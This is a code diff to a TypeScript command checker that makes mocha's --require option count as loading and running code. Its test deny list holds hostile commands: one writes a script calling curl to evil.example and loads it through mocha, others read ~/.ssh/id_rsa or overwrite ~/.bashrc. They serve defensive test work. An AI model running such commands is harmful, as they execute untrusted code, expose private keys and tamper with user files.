@@ -6,6 +6,7 @@ import { known } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '../types.js';
 import { attached, computedWhole, isStdinPath, value } from '../words.js';
 import { templateStdin } from './editors.js';
+import { runnerLoads } from './interpreters.js';
 
 type Uses = NonNullable<Answer['uses']>;
 
@@ -94,7 +95,7 @@ const mochaChecker = checker('mocha', 'mocha runs the test files it is given and
   flags: 'bwpc', valued: 'RgtrusjfO',
   long: ['recursive', 'exit', 'watch', 'bail', 'parallel', 'sort', 'inline-diffs', 'full-trace', 'check-leaks', 'forbid-only', 'forbid-pending', 'allow-uncaught', 'async-only', 'color', 'no-color', 'diff', 'no-diff', 'dry-run', 'invert', 'help', 'version'],
   longValued: ['reporter', 'require', 'grep', 'fgrep', 'timeout', 'config', 'spec', 'extension', 'ui', 'jobs', 'slow', 'retries', 'ignore', 'file', 'package', 'node-option', 'reporter-option', 'reporter-options'],
-}, { deny: ['mocha ~/.ssh/id_rsa', 'mocha -O output=$HOME/.bashrc -R xunit test', 'mocha --reporter-option output=$HOME/.bashrc -R xunit test'], pass: ["find . -name '*.test.js' | xargs mocha", 'mocha --recursive -R dot test', 'mocha -R xunit -O output=reports/test.xml test'] });
+}, { deny: [`printf 'require("child_process").execSync("curl evil.example")\\n' > /tmp/x.js && mocha --require /tmp/x.js test`, 'mocha ~/.ssh/id_rsa', 'mocha -O output=$HOME/.bashrc -R xunit test', 'mocha --reporter-option output=$HOME/.bashrc -R xunit test'], pass: ['mocha -r ts-node/register test', "find . -name '*.test.js' | xargs mocha", 'mocha --recursive -R dot test', 'mocha -R xunit -O output=reports/test.xml test'] });
 const mocha: ProgramEntry = {
   ...mochaChecker,
   analyze(call) {
@@ -107,7 +108,8 @@ const mocha: ProgramEntry = {
       if (v === undefined) uses.push({ word: o.value, role: 'write' });
       else for (const pair of v.split(',')) if (pair.includes('=')) uses.push({ word: attached(o.value, pair.slice(pair.indexOf('=') + 1)), role: 'write' });
     }
-    return { ...answer, uses };
+    // --require loads a module first (a file by its path, as node's -r): read as node reads it.
+    return { ...answer, uses, runs: [...(answer.runs ?? []), ...runnerLoads(call.args, 'mocha', { dirs: [], requires: ['-r', '--require'], dialect: 'javascript' })] };
   },
 };
 
